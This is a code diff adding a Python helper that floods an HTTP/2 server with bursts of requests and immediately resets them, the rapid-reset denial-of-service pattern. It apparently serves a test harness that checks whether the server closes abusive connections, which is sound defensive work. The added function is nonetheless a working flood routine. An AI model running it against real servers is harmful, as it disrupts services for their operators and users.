@@ -72,6 +72,35 @@ async def flood_by_http2(connection, kind, path="/", authority="orders"):
     return sent
 
 
+async def resets_by_http2(connection, until, path="/", authority="orders", burst=50, pause=0.02, rounds=None):
+    """Send bursts of requests and reset them, in turn at once and after a pause, until the server closes the
+    connection or the event `until` is set, at most so many rounds of two bursts. Returns whether the server closed the
+    connection before."""
+    reader, writer = await asyncio.open_connection(sock=connection)
+    ended = asyncio.ensure_future(_to_the_end(reader))
+    request, first = _block("GET", authority, path), 1
+    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
+    try:
+        while not until.is_set() and not ended.done():
+            if rounds == 0:
+                await asyncio.sleep(pause)
+                continue
+            rounds = rounds and rounds - 1
+            for wait in (0, pause):
+                streams = range(first, first + 2 * burst, 2)
+                first = streams.stop
+                writer.writelines(_frame(_HEADERS, _END_STREAM | _END_HEADERS, each, request) for each in streams)
+                await asyncio.sleep(wait)
+                writer.writelines(_frame(_ENDED, 0, each, struct.pack(">I", 8)) for each in streams)
+                await writer.drain()
+        return ended.done()
+    except ConnectionError:
+        return True
+    finally:
+        ended.cancel()
+        writer.close()
+
+
 async def _to_the_end(reader):
     with contextlib.suppress(ConnectionError):
         while await reader.read(65536):
